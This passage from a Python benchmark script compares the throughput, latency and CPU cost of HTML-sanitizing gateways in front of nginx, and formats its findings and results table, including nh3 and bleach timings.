            findings.append(f"{label}: {cell['by_variant']['?']} responses without the upstream's echo")
        if cell["mix"] == "mixed" and cell["markup_share"] is not None and abs(cell["markup_share"] - 0.1) > 0.01:
            findings.append(f"{label}: {cell['markup_share']:.1%} markup bodies answered, 10% sent")
    for run in report["runs"]:
        if run["phase"] == "warmup" and set(run["statuses"]) - {"200"}:
            findings.append(f"warm-up {run['label']}: statuses {run['statuses']}")
        if run["phase"] == "round" and run["latency_us"]["max"] > 1_000_000:
            findings.append(f"{run['label']} {run['mix']} round {run['round']}: a request took {run['latency_us']['max'] / 1e6:.2f}s")
    noisy = [run for run in report["runs"] if run["phase"] == "round" and (run["foreign_busy"] or 0) > 0.05]
    if noisy and report["environment"]["gateway_cores"]:
        worst = max(noisy, key=lambda run: run["foreign_busy"])
        findings.append(
            f"other processes used the gateways' core during {len(noisy)} measured run(s) (worst: {worst['label']} {worst['mix']} "
            f"round {worst['round']}, {worst['foreign_busy']:.0%} of the core, load average {worst['loadavg']}): throughput figures are noisy"
        )
    return findings


def table(report: dict[str, Any]) -> str:
    summary, env, args = report["summary"], report["environment"], report["args"]
    shares = report["share"]
    lines = [
        f"{'config':<20} {'body':<7} {'req/s median':>12} {'(min–max)':>15} {'p50 ms':>7} {'p99 ms':>7} {'CPU':>5} {'µs/req':>7} {'(min–max)':>11} {'requests':>9}  {'statuses':<12} {'to engine':>9}",
    ]
    for mix, names in CONFIGS_FOR.items():
        for name in names:
            cell = summary["cells"].get(f"{name}/{mix}")
            if not cell:
                continue
            rps, cpu = cell["rps"], cell["gateway_cpu_us_per_request"]
            engine = "-" if name not in SANITIZING else f"{cell['rewritten_share']:.1%}" if cell["rewritten_share"] is not None else "?"
            lines.append(
                f"{cell['label']:<20} {mix:<7} {rps['median']:>12,.0f} {'(' + format(rps['min'], ',.0f') + '–' + format(rps['max'], ',.0f') + ')':>15} "
                f"{cell['p50_ms']:>7.2f} {cell['p99_ms']:>7.2f} {cell['gateway_busy']:>5.0%} {cpu['median']:>7.0f} {'(' + format(cpu['min'], '.0f') + '–' + format(cpu['max'], '.0f') + ')':>11} "
                f"{cell['requests']:>9,}  {statuses_text(cell['statuses']):<12} {engine:>9}"
            )
        lines.append("")
    lines.append("CPU = the gateway's busy share of its core; µs/req = gateway CPU per request (/proc, 10 ms ticks), median (min–max) over rounds;")
    lines.append("to engine = share of responses whose body reached nginx rewritten (Content-Length echoed by nginx differs from the body sent)")
    lines.append("")
    lines.append(f"ratios within a round, median (min–max) over {args['rounds']} rounds:")
    lines.append(f"{'body':<7} {'ratio':<6} {'req/s':>22} {'gateway µs/req':>22} {'extra µs/req':>22}")
    for mix, ratios in summary["ratios"].items():
        for key, r in ratios.items():
            def show(s: dict[str, Any], digits: str) -> str:
                return f"{format(s['median'], digits)} ({format(s['min'], digits)}–{format(s['max'], digits)})"

            lines.append(f"{mix:<7} {key:<6} {show(r['rps'], '.3f'):>22} {show(r['cpu_us_per_request'], '.3f'):>22} {show(r['extra_cpu_us_per_request'], '+.0f'):>22}")
    lines.append("")
    b = shares["bodies"]
    lines.append(
        f"strings that need the engine (hold a '<'): clean body {b['clean']['strings_with_lt']} of {b['clean']['strings']}, "
        f"markup body {b['markup']['strings_with_lt']} of {b['markup']['strings']} (the description, {b['markup']['engine_chars']} chars); "
        f"body sizes clean {b['clean']['bytes']} B, markup {b['markup']['bytes']} B"
    )
    m = shares["mixes"]["mixed"]
    lines.append(
        f"mixed rotation ({MIXED.count('clean')} clean : {MIXED.count('markup')} markup): {m['strings_with_lt']} of {m['strings']} strings "
        f"({m['string_share']:.2%}), {m['requests_with_lt']} of {m['requests']} requests ({m['request_share']:.0%}) need the engine"
    )
    for name in ("a", "b", "c"):
        cell = summary["cells"].get(f"{name}/mixed")
        clean = summary["cells"].get(f"{name}/clean")
        if cell and cell["markup_share"] is not None:
            versus = f", {cell['rps']['median'] / clean['rps']['median']:.3f}x its clean-only throughput" if clean else ""
            lines.append(
                f"  measured, {cell['label']}: {cell['by_variant'].get('markup', 0):,} of {sum(cell['by_variant'].values()):,} responses were markup bodies "
                f"({cell['markup_share']:.2%}), {cell['rewritten_share']:.2%} reached nginx rewritten; {cell['rps']['median']:,.0f} req/s{versus}"
            )
    micro = report.get("micro")
    if micro:
        lines.append(
            f"in-process CPU: the markup description ({micro['description_chars']} chars) through nh3 {micro['nh3_clean_description_us']:.0f} µs, "
            f"bleach {micro['bleach_clean_description_us']:.0f} µs; parsing the clean body {micro['parse_json_clean_body_us']:.0f} µs, walking it {micro['walk_and_compare_clean_body_us']:.0f} µs"
        )
    lines.append(
        f"load: {env['load_tool']} -c{args['connections']} {args['seconds']:g}s x {args['rounds']} rounds (warm-up {args['warmup']:g}s each); upstream {env.get('upstream')}; "
        f"cores: load+upstreams {env['load_cores'] or 'unpinned'}, gateways {env['gateway_cores'] or 'unpinned'}; engines {env.get('engines')}"
    )
    if env["load_tool"] != "wrk":
        lines.append("note: without wrk the bundled aiohttp load generator shares the load core and may saturate before the gateway does")
    lines += findings_lines(report, "statuses, upstream bodies, gateway logs as expected")
    return "\n".join(lines)


def main() -> None:
    load_benchmark_main(
        "sanitize", __doc__ or "", run, table, seconds=2.0, warmup=1.0,
        rounds_help="rounds of every config x body", warmup_help="warm-up load per gateway (mixed bodies)",
        keep_help="keep the scratch folder (configs, logs, bodies, Lua scripts)",
    )  # fmt: skip


if __name__ == "__main__":
    if len(sys.argv) == 3 and sys.argv[1] == "serve":
        serve(int(sys.argv[2]))
    else:
        main()
